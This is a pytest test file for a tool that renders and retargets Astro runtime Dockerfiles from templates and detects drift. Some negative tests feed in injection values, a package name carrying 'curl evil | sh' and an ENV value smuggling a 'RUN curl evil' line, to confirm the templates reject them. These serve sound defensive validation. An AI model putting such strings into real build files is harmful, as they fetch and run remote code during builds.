"""The shipped templates render real, buildable Astro Dockerfiles; drift is detected."""

from __future__ import annotations

import io

import pytest
from dockerfile_parse import DockerfileParser

from upgrade.config.settings import PACKAGED_TEMPLATES
from upgrade.errors import TemplateError
from upgrade.model.dockerfile import find_base_image, retarget
from upgrade.model.image import parse_image
from upgrade.model.template import RuntimeContext, render_template, template_drift
from upgrade.model.versions import parse_version

TEMPLATES = PACKAGED_TEMPLATES
PRIVATE = "os-packages-private-index.Dockerfile.j2"
PRIVATE_VARS = {
    "os_packages": ["git", "libgomp1", "openjdk-17-jre-headless"],
    "pip_extra_index_url": "https://pypi.example.corp/simple/",
}


def runtime(image: str, **kw) -> RuntimeContext:
    return RuntimeContext.from_image(parse_image(image), **kw)


def parse(text: str) -> DockerfileParser:
    return DockerfileParser(fileobj=io.BytesIO(text.encode()))


@pytest.mark.parametrize(
    "image",
    [
        "quay.io/astronomer/astro-runtime:12.4.0",
        "quay.io/astronomer/astro-runtime:13.7.0-python-3.12-slim",
        "astrocrpublic.azurecr.io/runtime:3.1-12",
    ],
)
def test_standard_renders_a_dockerfile_the_engine_and_docker_agree_on(image):
    env = {"AIRFLOW__CORE__TEST_CONNECTION": "Enabled", "GREETING": 'say "hi" to the team'}
    text = render_template(TEMPLATES, "standard.Dockerfile.j2", runtime=runtime(image),
                           vars={"env": env})
    base = find_base_image(text, path="Dockerfile")
    assert str(base.image) == image
    parser = parse(text)
    assert parser.baseimage == image
    assert parser.envs == env  # quoting round-trips
    assert text.startswith("# Managed by astro-fleet-upgrade")
    assert text.endswith("\n") and not text.endswith("\n\n")


def test_env_values_stay_literal_for_docker():
    # BuildKit unescapes \", \$ and \\ inside double quotes, so $HOME is not expanded and one
    # backslash survives (dockerfile-parse 2.0.1 only unescapes \", so it is not asked).
    text = render_template(TEMPLATES, "standard.Dockerfile.j2",
                           runtime=runtime("quay.io/astronomer/astro-runtime:12.4.0"),
                           vars={"env": {"PROMPT": 'say "hi" to $HOME \\ me'}})
    assert 'ENV PROMPT="say \\"hi\\" to \\$HOME \\\\ me"\n' in text


def test_standard_without_env_is_just_the_from_line():
    text = render_template(TEMPLATES, "standard.Dockerfile.j2",
                           runtime=runtime("quay.io/astronomer/astro-runtime:12.4.0"), vars={})
    instructions = [i["instruction"] for i in parse(text).structure]
    assert instructions == ["COMMENT", "COMMENT", "COMMENT", "FROM"]


def test_private_index_template_builds_from_base_and_installs_packages():
    image = "quay.io/astronomer/astro-runtime:12.4.0-python-3.12-base"
    text = render_template(TEMPLATES, PRIVATE, runtime=runtime(image), vars=PRIVATE_VARS)
    assert str(find_base_image(text, path="Dockerfile").image) == image
    parser = parse(text)
    assert parser.baseimage == image
    steps = [(i["instruction"], i["value"]) for i in parser.structure if i["instruction"] != "COMMENT"]
    users = [value for kind, value in steps if kind == "USER"]
    assert users == ["root", "astro"]  # back to astro before anything runs as the project
    apt = next(value for kind, value in steps if kind == "RUN" and "apt-get install" in value)
    assert "git libgomp1 openjdk-17-jre-headless" in apt
    assert steps.index(("USER", "root")) < steps.index(("RUN", apt)) < steps.index(("USER", "astro"))
    assert ("ARG", "PIP_EXTRA_INDEX_URL=https://pypi.example.corp/simple/") in steps
    pip = next(value for kind, value in steps if kind == "RUN" and "pip install" in value)
    assert '--extra-index-url "${PIP_EXTRA_INDEX_URL}"' in pip


def test_rendered_template_can_then_be_retargeted_with_a_minimal_diff():
    rt = runtime("astrocrpublic.azurecr.io/runtime:3.1-9-base")
    text = render_template(TEMPLATES, PRIVATE, runtime=rt, vars=PRIVATE_VARS)
    target = parse_image(rt.image).retarget(parse_version("3.1-12"))
    again = render_template(TEMPLATES, PRIVATE, runtime=RuntimeContext.from_image(target),
                            vars=PRIVATE_VARS)
    assert retarget(text, parse_version("3.1-12"), path="Dockerfile") == again


@pytest.mark.parametrize(
    ("changes", "problem", "line"),
    [
        ({"pip_extra_index_url": "https://user:s3cret@pypi.example.corp/simple/"}, "credentials", 21),
        ({"pip_extra_index_url": "https://tok3n@pypi.example.corp/simple/"}, "credentials", 21),
        ({"os_packages": ["git; curl evil | sh"]}, "is not a Debian package name", 14),
        ({"os_packages": []}, "list of OS packages is empty", 14),
        ({"os_packages": "git"}, "is not a list of OS package names", 14),
    ],
)
def test_private_index_template_refuses_bad_vars(changes, problem, line):
    with pytest.raises(TemplateError) as info:
        render_template(TEMPLATES, PRIVATE,
                        runtime=runtime("quay.io/astronomer/astro-runtime:12.4.0-base"),
                        vars={**PRIVATE_VARS, **changes})
    message = str(info.value)
    assert message.startswith(f"templates/{PRIVATE}:{line}: "), message
    assert problem in message
    assert "s3cret" not in message and "tok3n" not in message  # never echo a credential


def test_private_index_template_always_builds_from_the_base_variant():
    for image in ("quay.io/astronomer/astro-runtime:12.4.0",
                  "astrocrpublic.azurecr.io/runtime:3.1-12-python-3.12"):
        text = render_template(TEMPLATES, PRIVATE, runtime=runtime(image), vars=PRIVATE_VARS)
        assert parse(text).baseimage == f"{image}-base"
        assert find_base_image(text, path="Dockerfile").image.variants[-1] == "base"


def test_standard_refuses_env_values_that_would_break_the_dockerfile():
    with pytest.raises(TemplateError) as info:
        render_template(TEMPLATES, "standard.Dockerfile.j2",
                        runtime=runtime("quay.io/astronomer/astro-runtime:12.4.0"),
                        vars={"env": {"A": "line1\nRUN curl evil"}})
    assert "newline or control character" in str(info.value)
    with pytest.raises(TemplateError, match="not a valid ENV name"):
        render_template(TEMPLATES, "standard.Dockerfile.j2",
                        runtime=runtime("quay.io/astronomer/astro-runtime:12.4.0"),
                        vars={"env": {"A B": "x"}})


def test_missing_template_lists_the_available_ones():
    with pytest.raises(TemplateError) as info:
        render_template(TEMPLATES, "nope.Dockerfile.j2",
                        runtime=runtime("quay.io/astronomer/astro-runtime:12.4.0"), vars={})
    message = str(info.value)
    assert message.startswith("templates/nope.Dockerfile.j2: no such template")
    assert "standard.Dockerfile.j2" in message and PRIVATE in message


def test_runtime_is_a_reserved_variable_name():
    with pytest.raises(TemplateError, match="'runtime' is reserved"):
        render_template(TEMPLATES, "standard.Dockerfile.j2",
                        runtime=runtime("quay.io/astronomer/astro-runtime:12.4.0"),
                        vars={"runtime": "x"})


def test_drift_none_for_an_untouched_render_and_a_diff_after_a_hand_edit():
    rt = runtime("quay.io/astronomer/astro-runtime:12.4.0-base")
    rendered = render_template(TEMPLATES, PRIVATE, runtime=rt, vars=PRIVATE_VARS)
    assert template_drift(rendered, rendered) is None
    edited = rendered.replace("USER astro\n", "USER astro\nRUN pip install requests\n", 1)
    diff = template_drift(edited, rendered)
    assert diff is not None
    assert "-RUN pip install requests\n" in diff
    assert diff.startswith("--- Dockerfile (in the repo)\n+++ Dockerfile (template rendered")


def test_drift_sees_line_endings_and_the_final_newline():
    rendered = render_template(TEMPLATES, "standard.Dockerfile.j2",
                               runtime=runtime("quay.io/astronomer/astro-runtime:12.4.0"), vars={})
    crlf = template_drift(rendered.replace("\n", "\r\n"), rendered)
    assert crlf is not None and "␍" in crlf
    no_newline = template_drift(rendered.rstrip("\n"), rendered)
    assert no_newline is not None and "No newline at end of file" in no_newline
